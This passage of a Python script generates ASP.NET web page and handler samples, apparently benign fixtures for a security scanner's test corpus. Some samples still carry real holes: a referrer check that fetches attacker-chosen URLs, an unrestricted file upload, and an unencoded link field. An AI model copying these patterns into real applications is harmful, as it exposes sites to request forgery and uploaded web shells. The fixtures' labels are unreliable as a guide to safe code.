            string path = Server.MapPath("~/bin/Plugins.dll");
            Assembly a = Assembly.LoadFrom(path);
            Type t = a.GetType("Plugins.P" + id.ToString("N"));
        }
    }
}
'''))


ben(S, "ReferrerCheck.cs", strip1(r'''
using System;
using System.Net;
using System.Web;
public class ReferrerCheck : IHttpModule
{
    public void Init(HttpApplication app) { app.BeginRequest += OnBegin; }
    public void Dispose() { }
    private static bool LinksBack(Uri referrer, Uri page)
    {
        using (var client = new WebClient())
            return client.DownloadString(referrer).Contains(page.Host);
    }
    private void OnBegin(object sender, EventArgs e)
    {
        var ctx = ((HttpApplication)sender).Context;
        if (ctx.Request.UrlReferrer != null)
            LinksBack(ctx.Request.UrlReferrer, ctx.Request.Url);
    }
}
'''))

ben(S, "RatesProxy.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="RatesProxy" %>
using System.Net;
using System.Web;
public class RatesProxy : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext context) {
        string cur = context.Request.QueryString["cur"] ?? "EUR";
        using (var c = new WebClient())
            context.Response.Write(c.DownloadString("https://rates.contoso.com/api?currency=" + HttpUtility.UrlEncode(cur)));
    }
}
'''))

ben(S, "PhotoUpload.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    if (Request.Files.Count == 1) {
        HttpPostedFile up = Request.Files[0];
        string ext = System.IO.Path.GetExtension(up.FileName).ToLowerInvariant();
        if (ext != ".jpg" && ext != ".png") { Response.Write("images only"); return; }
        string here = Server.MapPath(".");
        up.SaveAs(System.IO.Path.Combine(here, System.IO.Path.GetFileName(up.FileName)));
    }
}
</script>
'''))

ben(S, "upload-component.asp", strip1(r'''
<%
Set up = Server.CreateObject("Persits.Upload")
up.SetMaxSize 1048576, True
up.Save Server.MapPath("/uploads")
For Each f In up.Files
    Response.Write Server.HTMLEncode(f.FileName) & "<br>"
Next
%>
'''))

# ---- codebehind: pages with a code-behind class --------------------------
S = "codebehind"

ben(S, "Products.aspx", strip1(r'''
<%@ Page Title="Products" Language="C#" MasterPageFile="~/Site.Master" AutoEventWireup="true" CodeBehind="Products.aspx.cs" Inherits="Contoso.Shop.Products" %>
<asp:Content ID="Main" ContentPlaceHolderID="MainContent" runat="server">
    <h2>Products</h2>
    <asp:Panel runat="server" DefaultButton="btnSearch">
        <asp:TextBox ID="txtSearch" runat="server" CssClass="form-control" />
        <asp:Button ID="btnSearch" runat="server" Text="Search" OnClick="btnSearch_Click" />
    </asp:Panel>
    <asp:GridView ID="gvProducts" runat="server" AutoGenerateColumns="false" CssClass="table">
        <Columns>
            <asp:BoundField DataField="Name" HeaderText="Name" />
            <asp:BoundField DataField="Price" HeaderText="Price" DataFormatString="{0:C}" />
            <asp:HyperLinkField DataNavigateUrlFields="ProductID" DataNavigateUrlFormatString="OrderDetails.aspx?id={0}" Text="Details" />
        </Columns>
    </asp:GridView>
    <asp:HyperLink ID="lnkPrev" runat="server" Text="&laquo; Previous" />
    <asp:Label ID="lblPage" runat="server" />
    <asp:HyperLink ID="lnkNext" runat="server" Text="Next &raquo;" />
</asp:Content>
'''), bom=True)

ben(S, "Products.aspx.cs", strip1(r'''
using System;
using System.Configuration;
using System.Data;
using System.Data.SqlClient;
using System.Web;
using System.Web.UI;

namespace Contoso.Shop
{
    public partial class Products : Page
    {
        private const int PageSize = 20;

        protected void Page_Load(object sender, EventArgs e)
        {
            if (IsPostBack) return;
            int page;
            if (!int.TryParse(Request.QueryString["page"], out page) || page < 1) page = 1;
            string term = Request.QueryString["q"] ?? string.Empty;
            txtSearch.Text = term;
            BindGrid(term, page);
        }

        protected void btnSearch_Click(object sender, EventArgs e)
        {
            Response.Redirect("Products.aspx?q=" + HttpUtility.UrlEncode(txtSearch.Text.Trim()) + "&page=1");
        }

        private void BindGrid(string term, int page)
        {
            string cs = ConfigurationManager.ConnectionStrings["Shop"].ConnectionString;
            using (var conn = new SqlConnection(cs))
            using (var cmd = new SqlCommand(
                "SELECT ProductID, Name, Price FROM Products WHERE Name LIKE @term " +
                "ORDER BY Name OFFSET @skip ROWS FETCH NEXT @take ROWS ONLY", conn))
            {
                cmd.Parameters.AddWithValue("@term", "%" + term + "%");
                cmd.Parameters.AddWithValue("@skip", (page - 1) * PageSize);
                cmd.Parameters.AddWithValue("@take", PageSize);
                var table = new DataTable();
                new SqlDataAdapter(cmd).Fill(table);
                gvProducts.DataSource = table;
                gvProducts.DataBind();
            }
            lblPage.Text = "Page " + page;
            lnkPrev.NavigateUrl = "Products.aspx?q=" + HttpUtility.UrlEncode(term) + "&page=" + Math.Max(1, page - 1);
            lnkNext.NavigateUrl = "Products.aspx?q=" + HttpUtility.UrlEncode(term) + "&page=" + (page + 1);
        }
    }
}
'''), bom=True)

ben(S, "OrderDetails.aspx", strip1(r'''
<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="OrderDetails.aspx.cs" Inherits="Contoso.Shop.OrderDetails" %>
<!DOCTYPE html>
<html>
<head runat="server"><title>Order</title></head>
<body>
    <form id="form1" runat="server">
        <h1>Order <asp:Literal ID="litOrderId" runat="server" /></h1>
        <asp:DetailsView ID="dvOrder" runat="server" AutoGenerateRows="true" />
        <asp:Button ID="btnCancel" runat="server" Text="Cancel order" OnClick="btnCancel_Click" />
    </form>
</body>
</html>
'''))

ben(S, "OrderDetails.aspx.cs", strip1(r'''
using System;
using System.Configuration;
using System.Data.SqlClient;
using System.Web.UI;

namespace Contoso.Shop
{
    public partial class OrderDetails : Page
    {
        private int orderId;

        protected void Page_Load(object sender, EventArgs e)
        {
            if (!int.TryParse(Request.QueryString["id"], out orderId))
            {
                Response.Redirect("~/NotFound.aspx", true);
                return;
            }
            litOrderId.Text = orderId.ToString();
            if (!IsPostBack)
            {
                using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["Shop"].ConnectionString))
                using (var cmd = new SqlCommand("SELECT * FROM Orders WHERE OrderID = @id", conn))
                {
                    cmd.Parameters.AddWithValue("@id", orderId);
                    conn.Open();
                    using (SqlDataReader rd = cmd.ExecuteReader())
                    {
                        dvOrder.DataSource = rd;
                        dvOrder.DataBind();
                    }
                }
            }
        }

        protected void btnCancel_Click(object sender, EventArgs e)
        {
            using (var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["Shop"].ConnectionString))
            using (var cmd = new SqlCommand("UPDATE Orders SET Status = 'Cancelled' WHERE OrderID = @id", conn))
            {
                cmd.Parameters.AddWithValue("@id", orderId);
                conn.Open();
                cmd.ExecuteNonQuery();
            }
            Response.Redirect("OrderDetails.aspx?id=" + orderId);
        }
    }
}
'''))

ben(S, "Search.aspx", strip1(r'''
<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Search.aspx.cs" Inherits="Contoso.Intranet.Search" %>
<!DOCTYPE html>
<html>
<head runat="server"><title>Search</title></head>
<body>
<form id="f" runat="server">
    <asp:TextBox ID="q" runat="server" />
    <asp:Button ID="go" runat="server" Text="Search" OnClick="go_Click" />
    <p>Results for <strong><%: Query %></strong></p>
    <asp:Repeater ID="results" runat="server">
        <ItemTemplate>
            <div class="hit"><a href="<%# Eval("Url") %>"><%# Eval("Title") %></a>
            <p><%# Eval("Snippet") %></p></div>
        </ItemTemplate>
    </asp:Repeater>
</form>
</body>
</html>
'''), eol="lf")

ben(S, "Search.aspx.cs", strip1(r'''
using System;
using System.Linq;
using System.Web.UI;
using Contoso.Intranet.Index;

namespace Contoso.Intranet
{
    public partial class Search : Page
    {
        protected string Query { get; private set; }

        protected void Page_Load(object sender, EventArgs e)
        {
            Query = (Request.QueryString["q"] ?? "").Trim();
            if (Query.Length > 200) Query = Query.Substring(0, 200);
            if (!IsPostBack && Query.Length > 0)
            {
                q.Text = Query;
                var hits = SearchIndex.Open(Server.MapPath("~/App_Data/index")).Find(Query, 50);
                results.DataSource = hits.Select(h => new { h.Url, Title = Server.HtmlEncode(h.Title), Snippet = Server.HtmlEncode(h.Snippet) });
                results.DataBind();
            }
        }

        protected void go_Click(object sender, EventArgs e)
        {
            Response.Redirect("~/Search.aspx?q=" + Server.UrlEncode(q.Text));
        }
    }
}
'''), eol="lf")

ben(S, "Contact.aspx", strip1(r'''
<%@ Page Language="VB" AutoEventWireup="false" CodeFile="Contact.aspx.vb" Inherits="Contact" %>
<html>
<head runat="server"><title>Contact us</title></head>
<body>
<form id="form1" runat="server">
    Name: <asp:TextBox ID="txtName" runat="server" /><br />
    E-mail: <asp:TextBox ID="txtMail" runat="server" /><br />
    <asp:TextBox ID="txtBody" runat="server" TextMode="MultiLine" Rows="6" /><br />
    <asp:Button ID="btnSend" runat="server" Text="Send" />
    <asp:Label ID="lblResult" runat="server" />
</form>
</body>
</html>
'''))

ben(S, "Contact.aspx.vb", strip1(r'''
Imports System.Net.Mail

Partial Class Contact
    Inherits System.Web.UI.Page

    Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs) Handles Me.Load
        If Not IsPostBack AndAlso Request.QueryString("topic") IsNot Nothing Then
            txtBody.Text = "About: " & Request.QueryString("topic")
        End If
    End Sub

    Protected Sub btnSend_Click(ByVal sender As Object, ByVal e As EventArgs) Handles btnSend.Click
        Dim msg As New MailMessage("web@contoso.com", "sales@contoso.com")
        msg.Subject = "Contact form: " & Request.Form("txtName")
        msg.Body = txtBody.Text & vbCrLf & "Reply to: " & txtMail.Text
        Using smtp As New SmtpClient("smtp.contoso.com", 25)
            smtp.Send(msg)
        End Using
        lblResult.Text = "Thank you, we will get back to you."
    End Sub
End Class
'''))

ben(S, "Site.Master", strip1(r'''
<%@ Master Language="C#" AutoEventWireup="true" CodeBehind="Site.Master.cs" Inherits="Contoso.Shop.SiteMaster" %>
<!DOCTYPE html>
<html lang="en">
<head runat="server">
    <meta charset="utf-8" />
    <title><%: Page.Title %> - Contoso Shop</title>
    <link href="~/Content/site.css" rel="stylesheet" runat="server" />
</head>
<body>
    <form runat="server">
        <header>Signed in as <%: UserName %> | <a href="<%= ResolveUrl("~/Account/Logout.aspx") %>">Log out</a></header>
        <asp:ContentPlaceHolder ID="MainContent" runat="server" />
        <footer>&copy; <%= DateTime.Now.Year %> Contoso</footer>
    </form>
</body>
</html>
'''), bom=True)

ben(S, "Site.Master.cs", strip1(r'''
using System;
using System.Web.UI;

namespace Contoso.Shop
{
    public partial class SiteMaster : MasterPage
    {
        protected string UserName
        {
            get { return Context.User != null && Context.User.Identity.IsAuthenticated ? Context.User.Identity.Name : "guest"; }
        }

        protected void Page_Init(object sender, EventArgs e)
        {
            if (Request.Url.Scheme != "https" && !Request.IsLocal)
                Response.Redirect("https://" + Request.Url.Host + Request.RawUrl, true);
        }
    }
}
'''), bom=True)

ben(S, "Reports.aspx", strip1(r'''
<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Reports.aspx.cs" Inherits="Contoso.Shop.Reports" %>
<html><head runat="server"><title>Sales report</title></head>
<body><form runat="server">
From <asp:TextBox ID="txtFrom" runat="server" TextMode="Date" />
<asp:Button ID="btnExport" runat="server" Text="Export CSV" OnClick="btnExport_Click" />
<asp:Label ID="lblStatus" runat="server" />
</form></body></html>
'''))

ben(S, "Reports.aspx.cs", strip1(r'''
using System;
using System.Globalization;
using System.IO;
using System.Text;
using System.Web.UI;

namespace Contoso.Shop
{
    public partial class Reports : Page
    {
        protected void btnExport_Click(object sender, EventArgs e)
        {
            DateTime from;
            if (!DateTime.TryParse(Request.Form["txtFrom"], CultureInfo.InvariantCulture, DateTimeStyles.None, out from))
                from = DateTime.Today.AddDays(-30);
            var csv = new StringBuilder("OrderID,Date,Total\r\n");
            foreach (var row in SalesData.Since(from))
                csv.AppendFormat(CultureInfo.InvariantCulture, "{0},{1:yyyy-MM-dd},{2}\r\n", row.OrderId, row.Date, row.Total);
            string folder = Server.MapPath("~/App_Data/exports");
            Directory.CreateDirectory(folder);
            string file = Path.Combine(folder, "sales-" + DateTime.UtcNow.ToString("yyyyMMddHHmmss") + ".csv");
            File.WriteAllText(file, csv.ToString());
            lblStatus.Text = "Saved " + Path.GetFileName(file);
        }
    }
}
'''))

# ---- inline: server script blocks, output expressions, data binding ------
S = "inline"

ben(S, "ProductList.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    int category;
    int.TryParse(Request["id"], out category);
    lblCategory.Text = "Category " + category;
    DataTable t = new DataTable();
    t.Columns.Add("Name");
    t.Columns.Add("Price", typeof(decimal));
    t.Rows.Add("Blue mug", 7.5m);
    t.Rows.Add("Tea towel", 4.25m);
    rptProducts.DataSource = t;
    rptProducts.DataBind();
}
</script>
<html>
<body>
<form runat="server">
<h2><asp:Label ID="lblCategory" runat="server" /></h2>
<asp:Repeater ID="rptProducts" runat="server">
    <ItemTemplate>
        <tr><td><%# Eval("Name") %></td>
            <td><%# DataBinder.Eval(Container.DataItem, "Price", "{0:C}") %></td>
            <td><%# DataBinder.Eval(Container.DataItem, "Price") %></td></tr>
    </ItemTemplate>
</asp:Repeater>
</form>
</body>
</html>
'''))

ben(S, "Default.aspx", strip1(r'''
<%@ Page Language="C#" %>
<!DOCTYPE html>
<html>
<head><title>Welcome</title></head>
<body>
    <h1>Hello, <%: Request.QueryString["name"] ?? "visitor" %>!</h1>
    <p>Server time: <%= DateTime.Now.ToString("u") %></p>
    <p>Your address: <%= Server.HtmlEncode(Request.UserHostAddress) %></p>
    <% if (Request.IsAuthenticated) { %>
        <a href="Account/Profile.aspx">Profile</a>
    <% } else { %>
        <a href="Account/Login.aspx?ReturnUrl=<%= Server.UrlEncode(Request.RawUrl) %>">Log in</a>
    <% } %>
</body>
</html>
'''), eol="lf")

ben(S, "Catalog-utf16.aspx", strip1(r'''
<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim shelf As String = Request("shelf")
    If shelf Is Nothing Then shelf = "A"
    lblShelf.Text = Server.HtmlEncode(shelf)
    Dim books As New System.Collections.ArrayList()
    books.Add(New With {.Title = "Learning VB", .Author = "J. Smith"})
    books.Add(New With {.Title = "Web Forms", .Author = "K. Jones"})
    gvBooks.DataSource = books
    gvBooks.DataBind()
End Sub
</script>
<html><body><form runat="server">
Shelf <asp:Label ID="lblShelf" runat="server" />
<asp:GridView ID="gvBooks" runat="server" AutoGenerateColumns="False">
  <Columns>
    <asp:TemplateField HeaderText="Title"><ItemTemplate><%# Eval("Title") %></ItemTemplate></asp:TemplateField>
    <asp:TemplateField HeaderText="Author"><ItemTemplate><%# DataBinder.Eval(Container.DataItem, "Author") %></ItemTemplate></asp:TemplateField>
  </Columns>
</asp:GridView>
</form></body></html>
'''), enc="utf-16le")

ben(S, "Status.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load(sender : Object, e : EventArgs) {
    var id = Request.Item["id"];
    if (id == null || id == "") id = "0";
    lblId.Text = Server.HtmlEncode(id);
    lblState.Text = (parseInt(id) % 2 == 0) ? "Shipped" : "Processing";
}
</script>
<html><body><form runat="server">
Order <asp:Label ID="lblId" runat="server" /> is <asp:Label ID="lblState" runat="server" />.
</form></body></html>
'''))

ben(S, "Report.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    if (!IsPostBack)
    {
        fvOrder.DataSource = new[] { new { Qty = 3, Date = DateTime.Today, Customer = "Fabrikam" } };
        fvOrder.DataBind();
    }
}
</script>
<html><head><title><%$ Resources:Strings, ReportTitle %></title></head>
<body><form runat="server">
<asp:Literal runat="server" Text="<%$ AppSettings:CompanyName %>" />
<asp:FormView ID="fvOrder" runat="server">
    <ItemTemplate>
        Customer: <%# Eval("Customer") %><br />
        Date: <%# Eval("Date", "{0:d}") %><br />
        Quantity: <asp:TextBox runat="server" Text='<%# Bind("Qty") %>' />
    </ItemTemplate>
</asp:FormView>
<asp:XmlDataSource ID="feed" runat="server" DataFile="~/App_Data/news.xml" XPath="/rss/channel/item" />
<asp:Repeater runat="server" DataSourceID="feed"><ItemTemplate><li><%# XPath("title") %></li></ItemTemplate></asp:Repeater>
</form></body></html>
'''), eol="lf")

ben(S, "Pricing.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Linq" %>
<script runat="server">
// A discount code looks like SPRING10: letters, then the percentage.
decimal EvaluateDiscount(string code)
{
    if (string.IsNullOrEmpty(code) || code.Length > 16) return 0m;
    string digits = new string(code.Where(char.IsDigit).ToArray());
    int pct;
    return int.TryParse(digits, out pct) && pct <= 30 ? pct / 100m : 0m;
}

protected void Page_Load(object sender, EventArgs e)
{
    DataTable cart = (DataTable)(Session["cart"] ?? new DataTable());
    object total = cart.Columns.Contains("Price") ? cart.Compute("SUM(Price)", "") : 0m;
    decimal sum = total is DBNull ? 0m : Convert.ToDecimal(total);
    decimal off = EvaluateDiscount(Request["code"]);
    lblTotal.Text = (sum * (1 - off)).ToString("C");
}
</script>
<html><body><form runat="server">Total: <asp:Label ID="lblTotal" runat="server" /></form></body></html>
'''))

ben(S, "Weather.aspx", strip1(r'''
<%@ Page Language="JScript" %>
<%@ Import Namespace="System.Xml" %>
<script runat="server">
function Page_Load() {
    var city = Request.QueryString["city"];
    if (city == null) city = "Seattle";
    var doc = new XmlDocument();
    doc.Load(Server.MapPath("~/App_Data/forecast.xml"));
    var node = doc.SelectSingleNode("/forecast/city[@name='Seattle']");
    lblCity.Text = Server.HtmlEncode(city);
    lblTemp.Text = node == null ? "n/a" : node.Attributes["temp"].Value;
}
</script>
<html><body><form runat="server">
<asp:Label ID="lblCity" runat="server" />: <asp:Label ID="lblTemp" runat="server" /> &deg;C
</form></body></html>
'''), eol="lf")

# ---- upload: upload pages that validate and choose the name themselves ---
S = "upload"

ben(S, "Upload.aspx", strip1(r'''
<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Upload.aspx.cs" Inherits="Contoso.Docs.Upload" %>
<html><head runat="server"><title>Upload a document</title></head>
<body><form id="form1" runat="server">
    <asp:FileUpload ID="FileUpload1" runat="server" />
    <asp:Button ID="btnUpload" runat="server" Text="Upload" OnClick="btnUpload_Click" />
    <asp:Label ID="lblMessage" runat="server" />
</form></body></html>
'''))

ben(S, "Upload.aspx.cs", strip1(r'''
using System;
using System.IO;
using System.Linq;
using System.Web.UI;

namespace Contoso.Docs
{
    public partial class Upload : Page
    {
        private static readonly string[] Allowed = { ".pdf", ".docx", ".xlsx", ".png", ".jpg" };
        private const int MaxBytes = 10 * 1024 * 1024;

        protected void btnUpload_Click(object sender, EventArgs e)
        {
            if (!FileUpload1.HasFile)
            {
                lblMessage.Text = "Choose a file first.";
                return;
            }
            string ext = Path.GetExtension(FileUpload1.FileName).ToLowerInvariant();
            if (!Allowed.Contains(ext))
            {
                lblMessage.Text = "This file type is not allowed.";
                return;
            }
            if (FileUpload1.PostedFile.ContentLength > MaxBytes)
            {
                lblMessage.Text = "The file is larger than 10 MB.";
                return;
            }
            FileUpload1.SaveAs(Server.MapPath("~/Uploads/") + Path.GetFileName(FileUpload1.FileName));
            lblMessage.Text = "Uploaded.";
        }
    }
}
'''))

ben(S, "MultiUpload.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
static readonly string[] Allowed = { ".jpg", ".jpeg", ".png", ".gif" };

protected void Page_Load(object sender, EventArgs e)
{
    if (!IsPostBack) return;
    string folder = Server.MapPath("~/App_Data/incoming");
    Directory.CreateDirectory(folder);
    int saved = 0;
    for (int i = 0; i < Request.Files.Count; i++)
    {
        HttpPostedFile file = Request.Files[i];
        if (file.ContentLength == 0 || file.ContentLength > 4 * 1024 * 1024) continue;
        string ext = Path.GetExtension(file.FileName).ToLowerInvariant();
        if (Array.IndexOf(Allowed, ext) < 0) continue;
        file.SaveAs(Path.Combine(folder, Guid.NewGuid().ToString("N") + ext));
        saved++;
    }
    lblResult.Text = saved + " picture(s) saved.";
}
</script>
<html><body>
<form runat="server" enctype="multipart/form-data">
<input type="file" name="pics" multiple="multiple" />
<asp:Button runat="server" Text="Upload" />
<asp:Label ID="lblResult" runat="server" />
</form>
</body></html>
'''), eol="lf")

ben(S, "UploadHandler.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Contoso.Web.UploadHandler" %>
using System;
using System.IO;
using System.Web;

namespace Contoso.Web
{
    public class UploadHandler : IHttpHandler
    {
        public void ProcessRequest(HttpContext context)
        {
            context.Response.ContentType = "application/json";
            HttpPostedFile file = context.Request.Files["file"];
            if (file == null || file.ContentLength == 0 || file.ContentLength > 2 * 1024 * 1024)
            {
                context.Response.StatusCode = 400;
                context.Response.Write("{\"error\":\"missing or too large\"}");
                return;
            }
            string id = Guid.NewGuid().ToString("N");
            string folder = context.Server.MapPath("~/App_Data/attachments");
            file.SaveAs(Path.Combine(folder, id + ".bin"));
            context.Response.Write("{\"id\":\"" + id + "\",\"size\":" + file.ContentLength + "}");
        }

        public bool IsReusable { get { return true; } }
    }
}
'''))

ben(S, "UploadVb.aspx", strip1(r'''
<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
Protected Sub btnSave_Click(sender As Object, e As EventArgs)
    If Not FileUpload1.HasFile Then
        lblInfo.Text = "No file."
        Exit Sub
    End If
    If Path.GetExtension(FileUpload1.FileName).ToLower() <> ".pdf" Then
        lblInfo.Text = "Only PDF files are accepted."
        Exit Sub
    End If
    If FileUpload1.PostedFile.ContentLength > 5242880 Then
        lblInfo.Text = "Too large."
        Exit Sub
    End If
    FileUpload1.SaveAs(Server.MapPath("~/Docs/") & Guid.NewGuid().ToString() & ".pdf")
    lblInfo.Text = "Saved."
End Sub
</script>
<html><body><form runat="server">
<asp:FileUpload ID="FileUpload1" runat="server" />
<asp:Button ID="btnSave" runat="server" Text="Save" OnClick="btnSave_Click" />
<asp:Label ID="lblInfo" runat="server" />
</form></body></html>
'''))

ben(S, "avatar.asp", strip1(r'''
<%@ Language="VBScript" %>
<!-- #include virtual="/inc/session.asp" -->
<%
' Stores the posted picture as the signed-in user's avatar (JPEG only, max 200 KB).
Dim uid, size, data, st
uid = CLng(Session("UserID"))
size = Request.TotalBytes
If uid > 0 And size > 0 And size < 204800 Then
    data = Request.BinaryRead(size)
    Set st = Server.CreateObject("ADODB.Stream")
    st.Type = 1
    st.Open
    st.Write data
    st.SaveToFile Server.MapPath("/avatars/" & uid & ".jpg"), 2
    st.Close
    Set st = Nothing
    Response.Write "saved"
Else
    Response.Status = "400 Bad Request"
End If
%>
'''))

ben(S, "ImportCsv.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Collections.Generic" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    HttpPostedFile csv = Request.Files["csv"];
    if (csv == null || csv.ContentLength == 0) return;
    var rows = new List<string[]>();
    using (var reader = new StreamReader(csv.InputStream))
    {
        string line;
        while ((line = reader.ReadLine()) != null && rows.Count < 5000)
            rows.Add(line.Split(','));
    }
    gvPreview.DataSource = rows.ConvertAll(r => new { Sku = r[0], Qty = r.Length > 1 ? r[1] : "" });
    gvPreview.DataBind();
    lblCount.Text = rows.Count + " rows read; press Import to apply.";
}
</script>
<html><body><form runat="server" enctype="multipart/form-data">
<input type="file" name="csv" accept=".csv" /> <input type="submit" value="Preview" />
<asp:Label ID="lblCount" runat="server" />
<asp:GridView ID="gvPreview" runat="server" />
</form></body></html>
'''), eol="lf")

# ---- handlers: .ashx generic handlers and an .asmx web service -----------
S = "handlers"

ben(S, "Search.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Contoso.Web.SearchHandler" %>
using System;
using System.Linq;
using System.Web;
using System.Web.Script.Serialization;

namespace Contoso.Web
{
    public class SearchHandler : IHttpHandler
    {
        private static readonly string[] Cities = { "Amsterdam", "Berlin", "Boston", "Madrid", "Seattle", "Sydney" };

        public void ProcessRequest(HttpContext context)
        {
            string q = (context.Request["q"] ?? "").Trim();
            int max;
            if (!int.TryParse(context.Request.QueryString["max"], out max) || max < 1 || max > 20) max = 10;
            var hits = Cities.Where(c => c.StartsWith(q, StringComparison.OrdinalIgnoreCase)).Take(max).ToArray();
            context.Response.ContentType = "application/json";
            context.Response.Write(new JavaScriptSerializer().Serialize(new { query = q, results = hits }));
        }

        public bool IsReusable { get { return true; } }
    }
}
'''))

ben(S, "Thumbnail.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Thumbnail" %>
using System;
using System.IO;
using System.Web;

public class Thumbnail : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        int id;
        if (!int.TryParse(context.Request.QueryString["id"], out id) || id <= 0)
        {
            context.Response.StatusCode = 400;
            return;
        }
        string path = Path.Combine(context.Server.MapPath("~/App_Data/thumbs"), id.ToString() + ".jpg");
        if (!File.Exists(path))
        {
            context.Response.StatusCode = 404;
            return;
        }
        context.Response.ContentType = "image/jpeg";
        context.Response.Cache.SetCacheability(HttpCacheability.Public);
        context.Response.Cache.SetMaxAge(TimeSpan.FromDays(7));
        context.Response.BinaryWrite(File.ReadAllBytes(path));
    }

    public bool IsReusable { get { return true; } }
}
'''), eol="lf")

ben(S, "Inventory.asmx", strip1(r'''
<%@ WebService Language="C#" Class="Contoso.Services.Inventory" %>
using System;
using System.Collections.Generic;
using System.Web.Services;

namespace Contoso.Services
{
    [WebService(Namespace = "http://contoso.com/inventory/")]
    [WebServiceBinding(ConformsTo = WsiProfiles.BasicProfile1_1)]
    public class Inventory : WebService
    {
        private static readonly Dictionary<string, int> Stock = new Dictionary<string, int>
        {
            { "MUG-01", 120 }, { "TOWEL-02", 48 }, { "PEN-10", 900 }
        };

        [WebMethod(Description = "Units in stock for a SKU")]
        public int GetStock(string sku)
        {
            int n;
            return sku != null && Stock.TryGetValue(sku.ToUpperInvariant(), out n) ? n : 0;
        }

        [WebMethod]
        public string[] ListSkus()
        {
            return new List<string>(Stock.Keys).ToArray();
        }

        [WebMethod(EnableSession = true)]
        public string WhoAmI()
        {
            return Context.User.Identity.Name + " from " + Context.Request.UserHostAddress;
        }
    }
}
'''))

ben(S, "Ping.ashx", strip1(r'''
<%@ WebHandler Language="VB" Class="Ping" %>
Imports System.Web

Public Class Ping
    Implements IHttpHandler

    Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest
        context.Response.ContentType = "text/plain"
        Dim echo As String = context.Request.QueryString("echo")
        If echo IsNot Nothing AndAlso echo.Length <= 32 Then
            context.Response.Write("pong " & HttpUtility.HtmlEncode(echo))
        Else
            context.Response.Write("pong " & DateTime.UtcNow.ToString("o"))
        End If
    End Sub

    Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
        Get
            Return True
        End Get
    End Property
End Class
'''))

ben(S, "Export.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Export" %>
using System;
using System.Text;
using System.Text.RegularExpressions;
using System.Web;

public class Export : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string name = Regex.Replace(context.Request["name"] ?? "export", "[^A-Za-z0-9_-]", "");
        if (name.Length == 0) name = "export";
        var sb = new StringBuilder("Id,Name,Created\r\n");
        for (int i = 1; i <= 10; i++)
            sb.AppendFormat("{0},Item {0},{1:yyyy-MM-dd}\r\n", i, DateTime.Today.AddDays(-i));
        context.Response.ContentType = "text/csv";
        context.Response.AddHeader("Content-Disposition", "attachment; filename=" + name + ".csv");
        context.Response.Write(sb.ToString());
    }

    public bool IsReusable { get { return true; } }
}
'''), eol="lf")

ben(S, "Download.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Download" %>
using System.IO;
using System.Web;

public class Download : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string folder = context.Server.MapPath("~/App_Data/public");
        string name = Path.GetFileName(context.Request.QueryString["f"] ?? "");
        string full = Path.Combine(folder, name);
        if (name.Length == 0 || !File.Exists(full) || !full.StartsWith(folder))
        {
            context.Response.StatusCode = 404;
            return;
        }
        context.Response.ContentType = "application/octet-stream";
        context.Response.AddHeader("Content-Disposition", "attachment; filename=\"" + name + "\"");
        context.Response.TransmitFile(full);
    }

    public bool IsReusable { get { return true; } }
}
'''))

ben(S, "Geo.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Geo" %>
using System;
using System.IO;
using System.Net;
using System.Web;

// Looks up a postcode at the internal address service and relays its JSON.
public class Geo : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string zip = context.Request.QueryString["zip"] ?? "";
        int code;
        if (zip.Length != 5 || !int.TryParse(zip, out code)) { context.Response.StatusCode = 400; return; }
        var req = (HttpWebRequest)WebRequest.Create("https://geo.internal.contoso.com/api/zip/" + zip);
        req.Timeout = 5000;
        using (var resp = (HttpWebResponse)req.GetResponse())
        using (var sr = new StreamReader(resp.GetResponseStream()))
        {
            context.Response.ContentType = "application/json";
            context.Response.Write(sr.ReadToEnd());
        }
    }

    public bool IsReusable { get { return true; } }
}
'''))

# ---- admin-tools: fixed commands, constant names, benign decoding --------
S = "admin-tools"

ben(S, "RecycleIis.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (!User.IsInRole(@"CONTOSO\Web Admins")) { Response.StatusCode = 403; Response.End(); }
    if (IsPostBack && Request.Form["confirm"] == "yes")
    {
        Process.Start("iisreset.exe", "/noforce");
        lblStatus.Text = "IIS restart requested at " + DateTime.Now.ToString("T");
    }
}
</script>
<html><body><form runat="server">
<p>Restart IIS on this server?</p>
<input type="checkbox" name="confirm" value="yes" /> I am sure
<asp:Button runat="server" Text="Restart" />
